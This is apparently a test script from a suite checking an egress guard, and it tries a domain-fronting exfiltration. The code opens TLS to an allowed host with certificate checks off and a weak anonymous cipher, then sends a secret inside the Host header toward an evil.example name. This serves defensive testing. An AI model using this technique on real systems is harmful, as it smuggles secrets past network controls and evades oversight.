# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: inside TLS to an allowed name, the Host header names another
# proof: word
# needs: resolver
# open: the Host header lies inside TLS, and what stands below the TLS library sees ciphertext.
#   To end TLS in between, every client would have to trust a certificate of the guard's. A VPC
#   endpoint policy judges behind TLS
import socket
import ssl
import threading

from attack import SECRET, attempt

CIPHERS = "AECDH-AES128-SHA:@SECLEVEL=0"


def context(side):
    made = ssl.SSLContext(side)
    made.maximum_version = ssl.TLSVersion.TLSv1_2
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.set_ciphers(CIPHERS)
    return made


@attempt
def ask():
    listener = socket.socket()
    listener.bind(("127.66.66.67", 443))
    listener.listen()
    heard = []

    def serve():
        peer = context(ssl.PROTOCOL_TLS_SERVER).wrap_socket(listener.accept()[0], server_side=True)
        heard.append(peer.recv(1000))

    thread = threading.Thread(target=serve)
    thread.start()
    out = socket.create_connection(("api.allowed.example", 443))
    out = context(ssl.PROTOCOL_TLS_CLIENT).wrap_socket(out, server_hostname="api.allowed.example")
    out.send(b"GET / HTTP/1.1\r\nHost: " + SECRET.encode() + b".evil.example\r\n\r\n")
    thread.join()
    return heard[0]
